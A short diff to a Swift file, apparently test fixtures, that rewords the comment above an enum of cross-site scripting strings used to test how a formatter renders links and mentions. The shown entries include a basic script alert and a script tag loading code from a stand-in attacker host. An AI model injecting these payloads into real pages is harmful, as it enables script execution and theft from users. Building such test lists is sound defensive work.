@@ -1,5 +1,5 @@
-/// Strings that have run as script, or broken out of their place, in one page or another: what everybody tries, what
-/// hides from filters, what comes to life when it is parsed twice, and what aims at the links and mentions made here.
+/// Strings that have run as script, or escaped their context, in some page: common attacks, attacks that evade filters
+/// or need HTML to be parsed twice, and attacks on the links and mentions that the formatter generates.
 enum HostileMarkup {
     static let strings: [String] = [
         "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
